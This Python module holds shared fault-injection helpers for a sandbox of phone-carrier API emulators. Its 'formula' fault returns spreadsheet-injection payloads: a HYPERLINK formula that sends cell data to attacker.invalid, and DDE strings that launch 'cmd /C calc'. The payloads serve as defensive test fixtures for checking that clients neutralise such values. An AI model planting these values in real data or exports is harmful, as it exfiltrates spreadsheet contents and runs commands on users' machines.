"""What the emulators share: faults, latency, and synthetic operators."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass
from typing import Any

import phonenumbers
from starlette.responses import JSONResponse, PlainTextResponse, Response, StreamingResponse
from starlette.routing import Route

from tui.sandbox.state import SandboxState

CN_OPERATORS = ("中国移动", "中国联通", "中国电信")


Case = tuple[str, str | None]
"""A number, and the RIO asked with it (None: none)."""


@dataclass(frozen=True)
class Emulator:
    """One provider's emulator, as the sandbox registry lists it, with the cases the provider
    contract test (`tests/provider_contract.py`) asks its provider."""

    provider: str
    """The provider id it emulates (a profile section name)."""
    routes: tuple[Route, ...]
    """Its endpoints."""
    targets: tuple[str, ...]
    """Names faults can be attached to (`--fault TARGET:KIND`)."""
    demo_settings: Callable[[str], dict[str, Any]]
    """The demo profile's section for this provider, given the sandbox's base URL."""
    answers: Case
    """A question the provider answers (status ok) on the demo profile."""
    skips: Case | None = None
    """A question the provider does not apply to (status skipped); None: it applies to all."""


CN_RANGE_HOLDERS = (*CN_OPERATORS, "中国广电")
"""Who Chinese blocks are assigned to: China Broadnet holds 192, since 2019."""


def cn_range_operator(mobile: str) -> str:
    """The block holder of an 11-digit Chinese number (China Mobile when unknown)."""
    from tui.core.numbers.carriers import (
        carrier_name,  # part of the tables only: the demo runs in-process
    )

    name = carrier_name(phonenumbers.parse(mobile, "CN"), "zh")
    return name if name in CN_RANGE_HOLDERS else CN_OPERATORS[0]


def next_operator(operator: str) -> str:
    """Where a synthetic ported number went: the next of the three operators."""
    index = CN_OPERATORS.index(operator) if operator in CN_OPERATORS else 0
    return CN_OPERATORS[(index + 1) % 3]


async def fault_response(
    state: SandboxState, target: str, number: str | None = None
) -> Response | None:
    """Count the request (about `number`, when known), apply latency, and answer its fault
    if one is queued."""
    kind = state.take_fault(target, number)
    if state.latency:
        await asyncio.sleep(state.latency)
    if kind is None or kind == "expired_token":
        if kind == "expired_token":
            return JSONResponse(
                {"error": "invalid_token", "error_description": "token expired"}, status_code=401
            )
        return None
    if kind == "timeout":
        await asyncio.sleep(state.hang_seconds)
        return None
    if kind == "error":
        return JSONResponse(
            {"error": "internal", "message": "sandbox fault: internal error"}, status_code=500
        )
    if kind == "unavailable":
        return PlainTextResponse("service unavailable", status_code=503)
    if kind == "rate_limit":
        return JSONResponse(
            {"message": "too many requests"},
            status_code=429,
            headers={"Retry-After": state.retry_after},
        )
    if kind == "garbage":
        return PlainTextResponse(
            "<html><body>\x1b[31mgateway\x1b[0m oops</body>", media_type="text/html"
        )
    if kind == "huge":
        return StreamingResponse(_huge(state.huge_bytes), media_type="application/json")
    if kind == "drop":
        return Dropped()
    if kind == "formula":
        return JSONResponse(FORMULA_ANSWER)
    return JSONResponse({"unexpected": True, "items": [1, 2, 3]})


FORMULA_ANSWER = {
    "code": "SUCCESS",
    "message": "success",
    "data": {
        "transfer": "已携转",
        "originalOperator": '=HYPERLINK("http://attacker.invalid/?d="&A1,"中国移动")',
        "currentOperator": "@SUM(1+1)*cmd|' /C calc'!A0",
        "reason": "-2+3+cmd|' /C calc'!A0",
    },
}
"""A china_mnp answer a spreadsheet would run (the `formula` fault)."""


DROPPED = "ASGI callable returned without completing response."
"""What uvicorn logs when a `Dropped` answer hangs up (the server filters it out)."""


class Dropped(Response):
    """An answer begun and never finished: the status line and a Content-Length go out, then
    the server closes the connection (uvicorn does when an app returns mid-answer). The
    request reached the provider; the client learns nothing of its outcome."""

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        await send(
            {
                "type": "http.response.start",
                "status": 200,
                "headers": [(b"content-type", b"application/json"), (b"content-length", b"64")],
            }
        )


async def _huge(size: int, chunk: int = 64 * 1024) -> AsyncIterator[bytes]:
    """`{"data": "xxxx…` for `size` bytes, one chunk at a time."""
    yield b'{"data": "'
    block = b"x" * chunk
    for _ in range(size // chunk):
        yield block
